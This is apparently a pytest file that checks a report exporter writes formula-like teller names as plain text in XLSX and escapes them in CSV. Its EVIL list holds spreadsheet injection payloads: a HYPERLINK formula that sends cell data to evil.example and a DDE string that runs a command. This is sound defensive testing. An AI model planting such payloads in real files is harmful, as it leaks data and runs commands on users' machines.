"""Report exports write people's text as text, never as a formula a spreadsheet would run."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from server.reports import export
from server.reports.summary import COLUMNS

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def report(keys: list[str | None]) -> dict:
    figures = dict.fromkeys(COLUMNS[1:], 0) | {"wait_avg_s": 12.5, "sla_share": None}
    return {
        "branch": "demo", "from": "2026-03-02", "to": "2026-03-02", "timezone": "Asia/Shanghai",
        "group": "teller", "rows": [{**figures, "key": k} for k in keys], "total": {**figures, "key": None},
    }


def test_xlsx_writes_a_teller_named_like_a_formula_as_plain_text():
    body = export.to_xlsx(report([*EVIL, "teller3", None]))
    book = openpyxl.load_workbook(io.BytesIO(body))
    sheet = book.active
    keys = [sheet.cell(row=r, column=1) for r in range(4, 4 + len(EVIL) + 1)]
    assert [c.value for c in keys] == [*EVIL, "teller3"]
    assert all(c.data_type == "s" for c in keys), [(c.value, c.data_type) for c in keys]
    assert all(c.hyperlink is None for c in keys)
    wait = sheet.cell(row=4, column=1 + COLUMNS.index("wait_avg_s"))
    assert (wait.value, wait.data_type) == (12.5, "n"), "figures stay numbers"


@pytest.mark.parametrize("name", EVIL)
def test_csv_escapes_text_that_would_start_a_formula(name):
    text = export.to_csv(report([name, "teller3"]))
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["teller"] == "'" + name
    assert rows[1]["teller"] == "teller3", "ordinary text untouched"
    assert rows[0]["wait_avg_s"] == "12.5"
